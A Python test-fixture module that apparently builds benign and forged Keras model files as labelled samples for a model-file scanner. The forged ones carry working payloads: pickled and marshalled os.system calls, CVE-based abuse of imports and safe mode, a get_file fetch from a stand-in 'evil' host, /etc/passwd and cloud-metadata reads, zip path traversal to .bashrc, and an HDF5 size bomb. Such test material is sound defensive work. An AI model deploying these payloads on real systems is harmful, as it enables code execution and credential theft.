"""Keras: models of its own writers, and configurations that name what no layer is."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import marshal
import os
import pickle
import tempfile
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

from sample_set import COMMAND, MARKER, Sample, written

NEEDS = ("keras", "h5py")
FORGED = ("h5py",)
OLD = ("tf_keras", "tensorflow")


def keras() -> Any:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    return keras


@cache
def saved(kind: str, ending: str) -> bytes:
    """A model as Keras 3 saves it."""
    layers = keras().layers
    inputs = keras().Input((8, 8, 3))
    if kind == "sequential":
        made = keras().Sequential([layers.Input((4,)), layers.Dense(3, activation="relu"), layers.Dropout(0.1)])
    elif kind == "words":
        made = keras().Sequential([layers.Input((5,)), layers.Embedding(9, 4), layers.Bidirectional(layers.LSTM(3))])
    else:
        x = layers.Rescaling(1 / 255)(inputs)
        x = layers.Conv2D(4, 3, kernel_regularizer="l2", kernel_initializer="he_normal", padding="same")(x)
        x = layers.LeakyReLU()(layers.BatchNormalization()(x))
        y = layers.SeparableConv2D(4, 3, padding="same", activation="gelu")(x)
        x = keras().ops.mean(keras().ops.relu(x + y), axis=(1, 2)) * 2.0
        x = layers.MultiHeadAttention(2, 3)(layers.Reshape((1, 4))(x), layers.Reshape((1, 4))(x))
        made = keras().Model(inputs, layers.Dense(2, dtype="float16")(layers.Flatten()(x)))
    metrics = ["accuracy", keras().metrics.AUC()]
    schedule = keras().optimizers.schedules.ExponentialDecay(0.1, 10, 0.9)
    made.compile(keras().optimizers.AdamW(schedule), keras().losses.CategoricalCrossentropy(), metrics=metrics)
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder, f"m{ending}")
        made.save_weights(place) if ending == ".weights.h5" else made.save(place)
        return place.read_bytes()


@cache
def old(ending: str) -> bytes:
    """The same by Keras 2."""
    import tf_keras

    layers = tf_keras.layers
    inputs = tf_keras.Input((8, 8, 3))
    x = layers.SeparableConv2D(4, 3, activation="relu")(inputs)
    x = layers.GlobalAveragePooling2D()(layers.BatchNormalization()(x)) * 2.0
    made = tf_keras.Model(inputs, layers.Dense(2, activation="softmax")(x))
    made.compile("adam", "mse", metrics=["accuracy"])
    with tempfile.TemporaryDirectory() as folder:
        made.save(f"{folder}/m{ending}")
        return Path(folder, f"m{ending}").read_bytes()


def configuration() -> bytes:
    """`model.to_json()`."""
    with zipfile.ZipFile(io.BytesIO(saved("functional", ".keras"))) as file:
        return file.read("config.json")


def sharded(folder: Path) -> Path:
    layers = keras().layers
    made = keras().Sequential([layers.Input((64,)), *(layers.Dense(64) for _ in range(4))])
    made.save_weights(str(folder / "m.weights.json"), max_shard_size=0.00002)
    return folder


# put together by hand


def layer(name: str, config: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": name, "config": config or {}, "registered_name": None, **more}


def model(*layers: Any, **more: Any) -> dict[str, Any]:
    held = [layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "x"}), *layers]
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": held}, **more}


def function(module: str | None, name: str, **more: Any) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name, **more}


def code(text: str = f"lambda x: __import__('os').system({COMMAND!r}) and x or x") -> str:
    return base64.encodebytes(marshal.dumps(eval(text).__code__)).decode()


def written_lambda(text: str | None = None) -> dict[str, Any]:
    value = {"code": code() if text is None else text, "defaults": None, "closure": None}
    return layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": value}})


def old_lambda() -> dict[str, Any]:
    return {"class_name": "Lambda", "config": {"function": [code(), None, None], "function_type": "lambda"}}


@cache
def weights() -> bytes:
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_dataset("layers/dense/vars/0", data=[[1.0, 2.0]])
    return stream.getvalue()


def archive(config: Any, **members: bytes | Callable[[], bytes]) -> Callable[[], bytes]:
    def write() -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as file:
            file.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "x"}))
            held = config() if callable(config) else config
            file.writestr("config.json", held if isinstance(held, bytes) else json.dumps(held))
            for name, data in {"model.weights.h5": weights, **members}.items():
                file.writestr(name, data() if callable(data) else data)
        return stream.getvalue()

    return write


def in_hdf5(config: Any, **attributes: Any) -> Callable[[], bytes]:
    def write() -> bytes:
        import h5py

        stream = io.BytesIO()
        with h5py.File(stream, "w") as file:
            file.attrs["model_config"] = json.dumps(config() if callable(config) else config)
            file.attrs["keras_version"] = "2.15.0"
            for name, value in attributes.items():
                file.attrs[name] = json.dumps(value() if callable(value) else value)
            file.create_dataset("model_weights/dense/kernel:0", data=[[1.0, 2.0]])
        return stream.getvalue()

    return write


class Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (COMMAND,)


def torch_module() -> dict[str, Any]:
    """CVE-2025-49655: a layer hands its text to torch.load, without the restricted machine."""
    import torch

    stream = io.BytesIO()
    torch.save(Payload(), stream)
    return layer("TorchModuleWrapper", {"module": base64.b64encode(stream.getvalue()).decode(), "name": "t"})


def calls(module: str, name: str, **arguments: Any) -> dict[str, Any]:
    """CVE-2025-8747: a function of Keras itself as the function of a Lambda layer, with arguments from the file."""
    return layer("Lambda", {"name": "l", "function": function(module, name), "arguments": arguments})


def as_class(module: str, name: str, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def npz() -> bytes:
    import numpy as np

    stream = io.BytesIO()
    np.savez(stream, a=np.array([Payload()], dtype=object))
    return stream.getvalue()


def long_json() -> bytes:
    """The object stands behind more text than a glance at the beginning takes in."""
    return json.dumps({"padding": "x" * 200_000, "model": model(written_lambda())}).encode()


def escaped_json() -> bytes:
    return json.dumps({"model": model(written_lambda())}).replace("class_name", "cl\\u0061ss_name").encode()


GET = "https://example.org/evil.keras"
IMPORTS: dict[str, tuple[str, Callable[[], Any]]] = {
    "function-of-another-module": (
        "A function of any module is imported and called (CVE-2025-1550).",
        lambda: layer("Activation", {"activation": function("os", "system")}),
    ),
    "class-of-another-module": (
        "A class of any module is imported and made (CVE-2025-1550).",
        lambda: {**layer("Popen", {"args": COMMAND}), "module": "subprocess"},
    ),
    "fetches-a-file": (
        "Keras' own get_file fetches a file and unpacks it (CVE-2025-8747, CVE-2025-12060).",
        lambda: calls("keras.utils", "get_file", fname="x", origin=GET, extract=True, cache_dir="."),
    ),
    "allows-itself-everything": (
        "A function of Keras switches its safe mode off (CVE-2025-9906).",
        lambda: calls("keras.config", "enable_unsafe_deserialization"),
    ),
    "loads-another-model": (
        "A function of Keras loads another model without the safe mode (CVE-2025-9906).",
        lambda: calls("keras.models", "load_model", filepath="/tmp/x.keras", safe_mode=False),
    ),
    "sets-a-global": (
        "A function inside of Keras sets the safe mode to anything (CVE-2025-9906).",
        lambda: calls("keras.src.backend.common.global_state", "set_global_attribute", value=False),
    ),
    "loads-byte-code": (
        "A function inside of Keras makes a function of byte code.",
        lambda: calls("keras.src.utils.python_utils", "func_load", defaults=None),
    ),
    "function-as-a-class": (
        "A function stands where a class should be, and Keras hands it out as it is.",
        lambda: layer("Lambda", {"function": as_class("keras.utils", "get_file", origin=GET)}),
    ),
    "function-as-a-registered-class": (
        "The same, with a registered name that hides it.",
        lambda: layer(
            "Lambda", {"function": {**as_class("keras.utils", "get_file"), "registered_name": "mine>get_file"}}
        ),
    ),
    "function-of-numpy-as-a-class": (
        "A function of a library that is always there stands where a class should be.",
        lambda: as_class("numpy", "load", file="x.npy", allow_pickle=True),
    ),
    "in-what-it-is-compiled-with": (
        "The function stands in the settings of the training.",
        lambda: layer("Dense", {}, build_config={"f": function("os", "system")}),
    ),
    "type-of-an-input": (
        "A type of an input is imported from any module.",
        lambda: layer("InputLayer", {"spec": {"class_name": "__typespec__", "module": "os", "spec_name": "system",
                                              "config": []}}),
    ),
}  # fmt: skip
FILES: dict[str, tuple[str, str, Callable[[], Any]]] = {
    "vocabulary-of-the-machine": (
        "keras.vocabulary-file", "A vocabulary is read from a file of the machine (CVE-2025-12058).",
        lambda: layer("StringLookup", {"vocabulary": "/etc/passwd", "name": "s"}),
    ),
    "vocabulary-from-an-address": (
        "keras.vocabulary-file", "A vocabulary is fetched from an address inside the network (CVE-2025-12058).",
        lambda: layer("IntegerLookup", {"vocabulary": "http://169.254.169.254/latest/meta-data"}),
    ),
    "vocabulary-that-climbs": (
        "keras.vocabulary-file", "A vocabulary lies above the model's folder.",
        lambda: layer("TextVectorization", {"vocabulary": "assets/../../../etc/passwd"}),
    ),
    "vocabulary-under-another-name": (
        "keras.vocabulary-file", "A vocabulary is read by a layer that says that it is somebody's own.",
        lambda: layer("Custom>StringLookup", {"vocabulary": "/etc/passwd"}),
    ),
    "vocabulary-of-a-tokenizer": (
        "keras.file", "A tokenizer of the Hub's libraries reads a file of the machine.",
        lambda: {**layer("WordPieceTokenizer", {"vocabulary": "/etc/passwd"}), "module": "keras_hub.tokenizers"},
    ),
    "another-model": (
        "keras.saved-model", "A layer loads a SavedModel from anywhere.",
        lambda: layer("TFSMLayer", {"filepath": "/tmp/model"}),
    ),
}  # fmt: skip


def link_in_weights() -> bytes:
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["layers"] = h5py.ExternalLink("/etc/passwd", "/x")
    return stream.getvalue()


def storage_outside() -> bytes:
    """CVE-2026-1669: the numbers of a weight are those of another file."""
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_dataset("layers/dense/vars/0", (8,), dtype="u1", external=[("/etc/passwd", 0, 8)])
    return stream.getvalue()


def bomb() -> bytes:
    """CVE-2026-0897: a few bytes that claim to be terabytes."""
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_dataset("layers/dense/vars/0", (1 << 40,), dtype="f4", chunks=(1024,))
    return stream.getvalue()


def unsafe_run(path: Path) -> None:
    """Keras runs it as soon as the model is used, or built."""
    with contextlib.suppress(AttributeError, TypeError, ValueError):  # what it makes is no layer, but it ran
        keras().saving.load_model(path, safe_mode=False)(keras().ops.ones((1, 4)))
    assert Path(MARKER).exists()


SAMPLES = (
    *(
        Sample(
            f"keras/{kind}", "keras", written("m.keras", lambda kind=kind: saved(kind, ".keras")), ("safe",),
            honest=True, needs=NEEDS,
        )
        for kind in ("sequential", "functional", "words")
    ),
    Sample("keras/keras-2", "keras", written("m.keras", lambda: old(".keras")), ("safe",), honest=True, needs=OLD),
    Sample(
        "keras/configuration", "keras-config", written("m.json", configuration), ("safe",), honest=True, needs=NEEDS
    ),
    Sample("keras/sharded", "keras-config", sharded, ("safe",), honest=True, needs=NEEDS),
    *(
        Sample(
            f"keras/{name}", "keras", written("m.keras", archive(lambda make=make: model(make()))), ("danger",),
            rule="keras.import", trick=trick, needs=FORGED,
        )
        for name, (trick, make) in IMPORTS.items()
    ),
    *(
        Sample(
            f"keras/{name}", "keras", written("m.keras", archive(lambda make=make: model(make()))), ("danger",),
            rule=rule, trick=trick, needs=FORGED,
        )
        for name, (rule, trick, make) in FILES.items()
    ),
    Sample(
        "keras/lambda", "keras", written("m.keras", archive(lambda: model(written_lambda()))), ("danger",),
        rule="keras.lambda", trick="A Lambda layer brings byte code that acts (CVE-2024-3660).", needs=NEEDS,
        loads=unsafe_run,
    ),
    Sample(
        "keras/lambda-that-computes", "keras",
        written("m.keras", archive(lambda: model(written_lambda(code("lambda x: x * 2"))))), ("review",),
        rule="keras.lambda", trick="A Lambda layer brings byte code, which is harmless today.", needs=FORGED,
    ),
    Sample(
        "keras/lambda-in-the-training", "keras",
        written(
            "m.keras",
            archive(lambda: model(layer("Dense"), compile_config={"loss": written_lambda()["config"]["function"]})),
        ),
        ("danger",), rule="keras.lambda", trick="The byte code is that of a loss.", needs=FORGED,
    ),
    Sample(
        "keras/lambda-in-escapes", "keras", written("m.keras", archive(escaped_json)), ("danger",),
        rule="keras.lambda", trick="The words of the configuration are written in escapes.", needs=FORGED,
    ),
    Sample(
        "keras/lambda-cut-off", "keras", written("m.keras", archive(lambda: model(written_lambda(code()[:40])))),
        ("unverifiable",), rule="keras.config", trick="The byte code breaks off.", needs=FORGED,
    ),
    Sample(
        "keras/torch-module", "keras", written("m.keras", archive(lambda: model(torch_module()))), ("danger",),
        rule="keras.torch-module", trick="A layer unpickles a torch module (CVE-2025-49655).",
        needs=(*NEEDS, "torch"), loads=unsafe_run,
    ),
    Sample(
        "keras/class-of-your-own", "keras",
        written("m.keras", archive(lambda: model(layer("Mine", module="mine", registered_name="mine>Mine")))),
        ("review",), rule="keras.custom", trick="A class of the person's own gets what the file says.", needs=FORGED,
    ),
    Sample(
        "keras/no-json", "keras", written("m.keras", archive(b"{")), ("unverifiable",), rule="keras.config",
        trick="The configuration is no JSON.", needs=FORGED,
    ),
    Sample(
        "keras/pickle-among-the-assets", "keras",
        written("m.keras", archive(model(), **{"assets/vocab.txt": pickle.dumps(Payload())})), ("danger",),
        trick="A pickle lies among the assets.", needs=FORGED,
    ),
    Sample(
        "keras/archive-among-the-assets", "keras",
        written("m.keras", archive(model(), **{"assets/inner.keras": archive(lambda: model(written_lambda()))})),
        ("danger",), rule="keras.lambda", trick="Another archive lies among the assets.", needs=FORGED,
    ),
    Sample(
        "keras/entry-that-climbs", "keras", written("m.keras", archive(model(), **{"../../.bashrc": b"echo ran"})),
        ("unverifiable", "danger"), trick="An entry of the zip is unpacked outside of its folder.", needs=FORGED,
    ),
    Sample(
        "keras/weights-of-pickles", "keras", written("m.keras", archive(model(), **{"model.weights.npz": npz})),
        ("danger",), trick="The weights are objects, which numpy unpickles.", needs=(*FORGED, "numpy"),
    ),
    Sample(
        "keras/weights-linked", "keras", written("m.keras", archive(model(), **{"model.weights.h5": link_in_weights})),
        ("danger",), rule="hdf5.external-link", trick="The weights are a link to another file.", needs=FORGED,
    ),
    Sample(
        "keras/weights-of-another-file", "keras",
        written("m.keras", archive(model(), **{"model.weights.h5": storage_outside})), ("danger",),
        rule="hdf5.external-storage", trick="The weights' numbers are those of another file (CVE-2026-1669).",
        needs=FORGED,
    ),
    Sample(
        "keras/weights-without-end", "keras", written("m.keras", archive(model(), **{"model.weights.h5": bomb})),
        ("unverifiable",), rule="hdf5.size", trick="A few bytes claim to be terabytes (CVE-2026-0897).", needs=FORGED,
    ),
    Sample(
        "keras/json-lambda", "keras-config", written("m.json", lambda: json.dumps(model(written_lambda())).encode()),
        ("danger",), rule="keras.lambda", trick="The configuration by itself brings byte code.",
    ),
    Sample(
        "keras/json-lambda-far-behind", "keras-config", written("m.json", long_json), ("danger",), rule="keras.lambda",
        trick="The byte code stands behind a long text.",
    ),
    Sample(
        "keras/json-lambda-in-escapes", "keras-config", written("m.json", escaped_json), ("danger",),
        rule="keras.lambda", trick="The words of the configuration are written in escapes.",
    ),
    Sample(
        "keras/index-that-climbs", "keras-config",
        written("m.weights.json", lambda: json.dumps({"weight_map": {"/a": ["../../x.weights.h5"]}}).encode()),
        ("danger",), rule="keras.shard-path", trick="An index names weights outside of its folder.",
    ),
    *(
        Sample(
            f"keras-hdf5/{kind}", "keras-hdf5", written("m.h5", lambda kind=kind: saved(kind, ".h5")), ("safe",),
            honest=True, needs=NEEDS,
        )
        for kind in ("sequential", "functional", "words")
    ),
    Sample("keras-hdf5/keras-2", "keras-hdf5", written("m.h5", lambda: old(".h5")), ("safe",), honest=True, needs=OLD),
    Sample(
        "keras-hdf5/lambda", "keras-hdf5", written("m.h5", in_hdf5(lambda: model(old_lambda()))), ("danger",),
        rule="keras.lambda", trick="Byte code in HDF5, for which the safe mode does not hold (CVE-2025-9905).",
        needs=FORGED,
    ),
    Sample(
        "keras-hdf5/function-of-another-module", "keras-hdf5",
        written("m.h5", in_hdf5(lambda: model(layer("Activation", {"activation": function("os", "system")})))),
        ("danger",), rule="keras.import", trick="A function of any module in an HDF5 file.", needs=FORGED,
    ),
    Sample(
        "keras-hdf5/lambda-in-the-training", "keras-hdf5",
        written("m.h5", in_hdf5(model(), training_config=lambda: {"loss": written_lambda()["config"]["function"]})),
        ("danger",), rule="keras.lambda", trick="The byte code is that of a loss.", needs=FORGED,
    ),
    Sample(
        "keras-hdf5/calls-tensorflow", "keras-hdf5",
        written("m.h5", in_hdf5(lambda: model(layer("TFOpLambda", {"function": "io.write_file"})))), ("danger",),
        rule="keras.tensorflow-call", trick="A layer calls any function of TensorFlow by its name.", needs=FORGED,
    ),
)  # fmt: skip
